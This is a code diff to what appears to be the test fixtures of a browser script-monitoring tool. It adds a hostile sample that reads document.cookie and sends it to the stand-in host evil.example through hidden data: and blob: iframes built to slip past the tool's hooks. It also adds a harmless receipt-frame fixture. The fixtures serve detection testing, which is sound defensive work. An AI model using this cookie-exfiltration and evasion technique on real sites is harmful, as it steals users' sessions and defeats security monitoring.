@@ -71,6 +71,26 @@ export const MAIN_WORLD_SCRIPTS = {
   new Worker({ toString: () => 'data:text/javascript,' + encodeURIComponent(code('worker-data')) }).postMessage(c);
 })();`,
 
+  /**
+   * Code in frames whose documents are made from strings: a data: frame (opaque origin: no hook reaches it,
+   * and its requests are on no view Saq has) given the cookie by postMessage, a blob: frame by setAttribute,
+   * and a data: frame from markup; each sends to the sink.
+   */
+  'frame-code': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const page = (name) => '<script>onmessage = (e) => fetch("https://evil.example/' + name + '?c=" + e.data, { mode: "no-cors" }).catch(() => {});<\\/script>';
+  const hidden = (frame) => { frame.style.display = 'none'; frame.onload = () => frame.contentWindow.postMessage(c, '*'); return frame; };
+  const data = hidden(document.createElement('iframe'));
+  data.src = 'data:text/html,' + encodeURIComponent(page('frame-data'));
+  const blob = hidden(document.createElement('iframe'));
+  blob.setAttribute('src', URL.createObjectURL(new Blob([page('frame-blob')], { type: 'text/html' })));
+  document.body.append(data, blob);
+  const holder = document.createElement('div');
+  holder.innerHTML = '<iframe style="display:none" src="data:text/html,' + encodeURIComponent(page('frame-markup')) + '"></iframe>';
+  hidden(holder.firstChild);
+  document.body.append(holder);
+})();`,
+
   /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
   'self-remove': `(() => {
   const inline = document.createElement('script');
@@ -540,6 +560,16 @@ export const BENIGN = {
   shut(document.open('https://share.example/dialog?u=' + here, 'share-dialog', ''));
   shut(window.open('/kz/pages/questions', 'help'));
   window.__shared = true;
+})();`,
+  /** The shop's receipt shown in frames made from strings: a blob: one (a generated page) and a data: one. */
+  'receipt-frames': `(() => {
+  const receipt = '<!doctype html><meta charset="utf-8"><h1>Чек</h1><p>Ілбіс, 1 дана</p>';
+  const blob = document.createElement('iframe');
+  blob.src = URL.createObjectURL(new Blob([receipt], { type: 'text/html' }));
+  const data = document.createElement('iframe');
+  data.setAttribute('src', 'data:text/html;charset=utf-8,' + encodeURIComponent(receipt));
+  document.body.append(blob, data);
+  window.__receipts = true;
 })();`,
   /** The captcha provider's proof of work, in a blob: worker (served from the provider's host). */
   'captcha-pow': `(() => {
